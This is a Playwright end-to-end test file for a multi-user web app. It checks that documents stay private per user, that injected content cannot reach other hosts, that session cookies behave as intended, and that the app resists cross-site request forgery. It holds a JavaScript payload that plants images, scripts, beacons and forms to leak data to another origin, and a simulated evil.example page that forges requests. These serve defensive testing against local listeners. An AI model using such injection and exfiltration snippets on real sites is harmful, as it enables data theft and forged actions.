"""People on one kit: real process, real page, real browsers; what they may do needs no model."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from kit.database import Database
from kit.people.accounts import Accounts
from tests.e2e.drive import wait_until

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.e2e
PASSWORD = "four quiet green herons"


@dataclass
class WebProcess:
    """`python -m kit.web.server` on all addresses, alone: no engine, no worker."""

    home: Path
    port: int
    process: subprocess.Popen[bytes] | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> None:
        environ = os.environ | {"KIT_WEB_HOST": "0.0.0.0", "KIT_WEB_PORT": str(self.port)}
        command = [sys.executable, "-m", "kit.web.server", "--home", str(self.home)]
        self.process = subprocess.Popen(command, env=environ, stderr=subprocess.PIPE)
        wait_until(self._answers, 60, "the page")

    def _answers(self) -> bool:
        assert self.process is not None
        assert self.process.poll() is None, self.process.stderr and self.process.stderr.read()
        try:
            with urllib.request.urlopen(self.url + "/health", timeout=5) as answer:
                return bool(answer.status == 200)
        except OSError:
            return False

    def stop(self, how: signal.Signals = signal.SIGTERM) -> int:
        assert self.process is not None
        self.process.send_signal(how)
        code = self.process.wait(timeout=30)
        if self.process.stderr:
            self.process.stderr.close()
        return code


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebProcess]:
    """A kit for a network, with ana and ben."""
    home = tmp_path_factory.mktemp("people") / "home"
    database = Database(home / "kit.db")
    for name in ("ana", "ben"):
        Accounts(database).add(name, PASSWORD)
    database.close()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = WebProcess(home, port)
    process.start()
    yield process
    process.stop()


@pytest.fixture
def open_page(browser: Browser, web: WebProcess) -> Iterator[Callable[[str], Page]]:
    """Signs a person in, in a browser profile of their own, and waits for the page."""
    contexts = []

    def open_(name: str) -> Page:
        context = browser.new_context()
        contexts.append(context)
        page = context.new_page()
        page.goto(web.url + "/")
        assert "/sign-in" in page.url
        page.get_by_label("Name").fill(name)
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_selector("#question", timeout=30_000)
        return page

    yield open_
    for context in contexts:
        context.close()


def _upload(page: Page, name: str, text: str) -> None:
    page.click("[data-view=documents]")
    file = {"name": name, "mimeType": "text/markdown", "buffer": text.encode()}
    page.set_input_files("#drop input[type=file]", file)  # type: ignore[arg-type]
    page.wait_for_selector(f"#table >> text={name}", timeout=20_000)


def test_two_people_share_a_kit_and_nothing_else(open_page: Callable[[str], Page]) -> None:
    """What ana loads for herself, asks and streams is hers: ben's browser gets none of it."""
    hashes: list[str] = []
    ana = open_page("ana")

    def note(request: object) -> None:
        body = getattr(request, "post_data", None) or ""
        hashes.extend(re.findall(r'"session_hash":\s*"([a-z0-9]+)"', body))

    ana.on("request", note)
    _upload(ana, "secret-plan.md", "# Plan\n\nThe secret is a heron.")
    ben = open_page("ben")
    ben.click("[data-view=documents]")
    ben.wait_for_timeout(1500)
    assert "secret-plan" not in ben.content()

    listed = ana.evaluate("fetch('/api/v1/documents').then(r => r.json())")["documents"]
    (hers,) = [d for d in listed if d["name"] == "secret-plan.md"]
    assert hers["is_private"] is True
    for path in ("", "/original", "/text"):
        assert _status(ben, f"/api/v1/documents/{hers['id']}{path}") == 404
        assert _status(ana, f"/api/v1/documents/{hers['id']}{path}") in (200, 404)
    assert _status(ana, f"/api/v1/documents/{hers['id']}/original") == 200

    assert hashes, "the page sent no session hash"
    for session_hash in set(hashes):
        assert _status(ben, f"/gradio_api/queue/data?session_hash={session_hash}") == 403


def test_page_loads_nothing_from_elsewhere(
    open_page: Callable[[str], Page], web: WebProcess
) -> None:
    """An image, script, frame, form or fetch of another host, planted in the page, is not sent."""
    page = open_page("ana")
    with _listening() as (other, heard):
        page.evaluate(PLANTED, other)
        page.wait_for_timeout(1500)
    assert heard == []
    assert page.url.startswith(web.url)


def test_listener_hears_what_is_sent(browser: Browser) -> None:
    """The listener of the test above is not deaf: without our policy the same plants are sent."""
    page = browser.new_page()
    with _listening() as (plain, _), _listening() as (other, heard):
        page.goto(plain)
        page.evaluate(PLANTED, other)
        page.wait_for_timeout(1500)
        page.close()
    assert {"/image", "/frame", "/style", "/script", "/fetch", "/beacon", "/form"} <= {*heard}


PLANTED = """other => {
    const plant = html => document.body.insertAdjacentHTML('beforeend', html);
    plant(`<img src="${other}/image?q=secret">`);
    plant(`<iframe src="${other}/frame"></iframe>`);
    plant(`<link rel="stylesheet" href="${other}/style">`);
    plant(`<form id="leak" action="${other}/form"><input name="q" value="s"></form>`);
    const script = document.createElement('script');
    script.src = other + '/script';
    document.body.append(script);
    fetch(other + '/fetch').catch(() => 0);
    navigator.sendBeacon(other + '/beacon', 'secret');
    setTimeout(() => document.getElementById('leak').submit(), 500);
}"""


@contextlib.contextmanager
def _listening() -> Iterator[tuple[str, list[str]]]:
    """(address of another origin, paths asked for there so far)."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path.split("?")[0])
            self.send_response(200)
            self.send_header("content-length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
        server.shutdown()
        thread.join()


def test_session_survives_a_restart_and_ends_with_sign_out(
    open_page: Callable[[str], Page], web: WebProcess
) -> None:
    """A person stays signed in over a restart; after signing out the old cookie opens nothing."""
    page = open_page("ana")
    assert web.stop() == 0
    web.start()
    assert _status(page, "/api/v1/status") == 200
    page.reload()
    page.wait_for_selector("#question", timeout=30_000)
    (kept,) = [c for c in page.context.cookies() if c["name"] == "kit_session"]
    assert kept["httpOnly"] is True
    assert kept["sameSite"] == "Lax"
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/sign-in")
    page.context.add_cookies([kept])  # type: ignore[list-item]
    page.goto(web.url + "/")
    assert "/sign-in" in page.url


def test_another_site_cannot_act_for_a_person(
    open_page: Callable[[str], Page], web: WebProcess, browser: Browser
) -> None:
    """A page of another origin that posts with the person's browser changes nothing."""
    page = open_page("ben")
    before = page.evaluate("fetch('/api/v1/conversations').then(r => r.json())")
    evil = page.context.new_page()
    evil.route("http://evil.example/**", lambda route: route.fulfill(body="<p>hello</p>"))
    evil.goto("http://evil.example/")
    evil.evaluate(
        """url => {
            fetch(url + '/api/v1/conversations', {method: 'POST', mode: 'no-cors', body: '{}',
                  credentials: 'include'}).catch(() => 0);
            document.body.innerHTML = `<form method=post action="${url}/sign-out"></form>`;
            document.forms[0].submit();
        }""",
        web.url,
    )
    evil.wait_for_timeout(1000)
    assert page.evaluate("fetch('/api/v1/conversations').then(r => r.json())") == before


def test_without_an_account_the_kit_does_not_listen(tmp_path: Path) -> None:
    """On a network address without an account: one error line, one hint, exit code 30."""
    done = subprocess.run(
        [sys.executable, "-m", "kit.web.server", "--home", str(tmp_path / "home")],
        env=os.environ | {"KIT_WEB_HOST": "0.0.0.0", "KIT_WEB_PORT": "0"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 30
    assert [line.split(":")[0] for line in done.stderr.splitlines()] == ["error", "hint"]


def _status(page: Page, path: str) -> int:
    """Status of a request that the page's own script makes."""
    return int(page.evaluate("path => fetch(path).then(r => r.status)", path))
